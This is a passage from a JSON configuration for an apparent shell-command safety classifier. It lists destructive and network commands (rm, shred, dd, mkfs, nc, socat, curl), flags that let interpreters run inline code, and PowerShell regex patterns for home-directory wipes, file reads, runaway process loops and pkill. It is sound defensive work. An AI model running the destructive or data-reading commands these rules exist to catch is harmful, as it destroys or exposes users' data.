th","workspace","workspaces"],"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv","ln"]\
,"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdiscard","t\
runcate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","find","\
xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","killall","pkill","shutdown","reboot"\
,"halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","ufw","mount","umount","docker",\
"kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runners":[\
"echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","patch","\
ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whatis","man","info","help","apropos\
","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","unset","set","shift","read","lo\
cal","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","bundle\
","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zypper","\
emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync","ftp\
","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","nano",\
"emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscript","\
date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep","seq\
","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings","colum\
n","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg","mount\
","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel","usermod","passwd","crontab","\
dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","ksh","\
eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza","fd",\
"dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand","une\
xpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4","m4"\
,"cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","shuf","l\
ook","comm","tsort","ptx","nkf","cut","base32"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"mo\
dule":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","long":["c\
heck-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","require","import","loader","experimental-\
loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-dire\
ctory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","\
tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"nodejs":{"short":"eprC","long":["eval","pri\
nt","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config"\
,"redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern"\
,"test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]\
},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-ty\
pe","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-r\
ejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e"\
,"p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-fi\
le","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","se\
cure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"option\
al":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{"short":"eprC","long":["eval","print","require","import","loa\
der","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","repor\
t-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-repo\
rter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"deno":{"short":"eprC","l\
ong":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir"\
,"openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","t\
est-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"chec\
ks":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","c\
onfig","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-lim\
it","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascr\
ipt","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"perl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise",\
"MO=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"ruby","code":["e\
"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","rakefile"],"opera\
nds":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","process-end","pro\
cess-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"files":["f","F",\
"file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","sourc\
e"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"la\
nguage":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator","assign","sour\
ce","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl","long":["file",\
"field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"psql":{"\
short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["\
c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","da\
tabase","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long"\
:["execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","\
init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":["cmd"],"files":\
["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","long":["cmd","host\
","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"database then code"}\
,"influx":{"long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["execute"],"o\
perands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"langua\
ge":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set","variable"],"p\
ermuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","database","file","\
set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["query","host","port\
","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"short":"qhud","long\
":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"operands":"no cod\
e"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","c\
ode":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file","set","variable\
"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username","dbname","data\
base","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","username","password",\
"file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"mongosh":{"shor\
t":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f\
","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"\
short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":\
["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language":"sql","files":\
["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","execute","file"]\
,"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog","schema","user"\
,"execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","long":["server","ca\
talog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{"short":"efunpid\
","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"beeline":{"short":\
"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"spark-sql"\
:{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"\
impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","query_file\
"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","\
command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"lan\
guage":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","\
file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["execute","host","po\
rt","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execute","host","port"\
,"user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"],"permuted":tru\
e,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connection"],"permuted":t\
rue,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"],"after":["runn\
er","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby",\
"operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"django-ad\
min":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd","after":["shel\
l"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":["shell"],"langu\
age":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"],"language":"py\
thon","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval","eval","ev","p\
hp:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"wp":{"afte\
r":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"after":["eval","s\
hell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","type","host","oth\
er-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"builtin":{},"pkexec":\
{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"taskse\
t":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"short"\
:"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"dotenv":{"short"\
:"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"ccache":\
{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":"n","long":["adj\
ustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","long":[\
"signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"strace":{"short":"\
eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","export-json","export\
-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"short":"wlgxuftHmjoe\
","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"short":"wlgxuftHmjoe\
","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh":{"short":"wlgx\
uftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip":1,"code":["c",\
"command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","groups"],"skip":1,"\
own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["target","setuid"\
,"setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"},"dum\
b-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","long":["property"\
,"setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long":["what","who",\
"why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","python"]},"su":{"sho\
rt":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{"short":"cgGswu"\
,"long":["command","group","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":99,"code":["c"]}\
},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"short":"","long":["p\
ackage","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":["dlx","exec"]},\
"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":"","long":[],"afte\
r":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"after":["exec"]},"a\
sdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"],"after":["run"]\
},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":"","long":["spec\
"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short":"","long":[],"\
after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after":["run"]},"hatch\
":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical":{"short":"","l\
ong":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short":"ares","long":\
["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"","long":[],"after\
":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"short":"","long":\
[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]},"vagrant":{"sho\
rt":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["forall"]}},"small_lan\
guages":{"lua":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[\
],"code":["e"],"dialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua\
5.4":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"\
dialect":"r"},"julia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"w\
ish":{"short":"","long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e\
"],"dialect":"lisp"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","ev\
al","x"],"dialect":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["\
c","e","eval","x"],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"\
code":["c","e","eval","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":\
["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e"\
,"long":["eval"],"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["\
eval"],"code":["e","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code\
":["eval"],"dialect":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["\
eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"gh\
c":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"co\
de":["e"],"dialect":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect\
":"named"},"amm":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"swift":{"shor\
t":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","\
long":[],"code":["e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-\
script":{"short":"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"\
","long":[],"dialect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short\
":"","long":[],"dialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"d\
ialect":"typed"},"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"c\
lang":{"short":"","long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short"\
:"","long":[],"dialect":"typed"},"dotnet":{"short":"","long":[],"dialect":"typed","operands":"code"},"dotnet-script":{"short":"","long":[],"dialect":"typed","op\
erands":"code"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2\
000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000\
}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{\
0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(\
?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\
\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\
\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?\
~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,3\
00}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:In\
clude|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\
\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|c\
at|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?\
:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,2\
00})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\
\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,\
()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & \
done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|\
exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*\
